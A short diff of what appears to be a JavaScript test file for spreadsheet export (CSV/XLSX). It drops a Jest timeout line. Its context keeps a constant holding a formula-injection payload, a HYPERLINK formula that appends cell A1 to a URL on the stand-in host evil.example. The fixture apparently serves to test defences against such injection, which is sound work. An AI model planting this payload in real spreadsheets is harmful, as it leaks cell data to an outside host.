@@ -5,8 +5,6 @@ import { addPerson, dataSourceOf } from '../support/people.js';
 import { orderOf, positionOf, Shop } from '../support/shop.js';
 import { download, openCsv, openXlsx } from '../support/spreadsheet.js';
 
-jest.setTimeout(120_000);
-
 const EVIL = `=HYPERLINK("http://evil.example?"&A1;"ok")`;
 const MOSCOW = 3 * 3_600_000;
 const ASKED_EVERY_MS = 20;
